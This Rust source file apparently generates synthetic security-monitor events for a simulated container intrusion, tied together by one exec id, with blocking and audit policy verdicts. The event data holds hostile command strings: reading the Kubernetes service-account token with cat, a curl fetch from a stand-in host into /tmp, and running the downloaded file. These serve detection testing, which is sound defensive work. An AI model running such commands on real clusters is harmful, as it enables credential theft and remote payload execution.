//! An attack as a chain of events: somebody enters a container, looks around, takes a secret, calls
//! home and is stopped. All of it is linked by one exec id.

use std::collections::VecDeque;

use super::dice::Dice;
use super::kinds::{Act, Verdict, dns, exec};
use super::world::World;
use crate::proto::feeder::{ExecEvent, Log};

const PACKAGE_MANAGER: Verdict = Verdict {
    event_type: "MatchedPolicy",
    policy: "harden-pkg-mngr-exec",
    severity: "5",
    tags: "NIST,NIST_800-53_CM-7(4),SI-4,process",
    message: "A package manager was run in a container",
    action: "Audit",
    enforcer: "eBPF Monitor",
    result: "Passed",
};

const TOKEN: Verdict = Verdict {
    event_type: "MatchedPolicy",
    policy: "block-service-account-token",
    severity: "7",
    tags: "MITRE,MITRE_T1552_unsecured_credentials",
    message: "The service account's token was read",
    action: "Audit",
    enforcer: "BPFLSM",
    result: "Passed",
};

const TMP_EXEC: Verdict = Verdict {
    event_type: "MatchedPolicy",
    policy: "block-exec-in-tmp",
    severity: "10",
    tags: "CIS,MITRE,MITRE_T1059_command_and_scripting_interpreter",
    message: "A program was started from /tmp",
    action: "Block",
    enforcer: "BPFLSM",
    result: "Permission denied",
};

const TOKEN_PATH: &str = "/run/secrets/kubernetes.io/serviceaccount/token";

/// The chain, in order.
pub(super) fn attack(world: &mut World, dice: &mut Dice) -> VecDeque<Act> {
    let workload = dice.below(world.workloads.len());
    let exec_id = (dice.next() >> 12).to_string();
    let recent = world.hosts[world.workloads[workload].host].recent;
    let shell = shell_of(exec(world, workload, "/bin/bash"));
    let step = |world: &mut World, command: &str| child_of(&shell, exec(world, workload, command));
    let update = step(world, "/usr/bin/apt-get update");
    let read = step(world, &format!("/usr/bin/cat {TOKEN_PATH}"));
    let token = Log {
        operation: "File".into(),
        resource: TOKEN_PATH.into(),
        data: "syscall=SYS_OPENAT fd=-100 flags=O_RDONLY".into(),
        source: format!("/usr/bin/cat {TOKEN_PATH}"),
        ..read.clone()
    };
    let fetch = step(world, "/usr/bin/curl -sk https://drop.example.org/x -o /tmp/x");
    let calling = Log { source: fetch.resource.clone(), ..fetch.clone() };
    let look_up = dns(calling.clone(), "drop.example.org", recent, dice);
    let connect = Log {
        operation: "Network".into(),
        resource: "remoteip=203.0.113.7 port=443 protocol=TCP".into(),
        data: "kprobe=tcp_connect domain=AF_INET".into(),
        ..calling.clone()
    };
    let written = Log {
        operation: "File".into(),
        resource: "/tmp/x".into(),
        data: "syscall=SYS_OPENAT fd=-100 flags=O_WRONLY|O_CREAT|O_TRUNC".into(),
        ..calling
    };
    let started = Log { data: "lsm=SECURITY_BPRM_CHECK".into(), ..step(world, "/tmp/x") };
    let acts: [(Log, Option<Verdict>); 10] = [
        (shell, None),
        (update.clone(), None),
        (update, Some(PACKAGE_MANAGER)),
        (read, None),
        (token, Some(TOKEN)),
        (fetch, None),
        (look_up, None),
        (connect, None),
        (written, None),
        (started, Some(TMP_EXEC)),
    ];
    let link = |mut log: Log| {
        let comm: String = log.process_name.rsplit('/').next().unwrap_or_default().chars().take(15).collect();
        log.exec_event = Some(ExecEvent { exec_id: exec_id.clone(), executable_name: comm });
        log
    };
    acts.into_iter().map(|(log, verdict)| Act { log: link(log), verdict }).collect()
}

/// The shell that `kubectl exec` starts: its parent is outside the container.
fn shell_of(log: Log) -> Log {
    Log {
        ppid: 0,
        uid: 0,
        tty: "pts0".into(),
        source: "/usr/bin/runc".into(),
        parent_process_name: "/usr/bin/runc".into(),
        ..log
    }
}

fn child_of(shell: &Log, log: Log) -> Log {
    Log {
        ppid: shell.pid,
        host_ppid: shell.host_pid,
        uid: shell.uid,
        tty: shell.tty.clone(),
        source: shell.process_name.clone(),
        parent_process_name: shell.process_name.clone(),
        ..log
    }
}
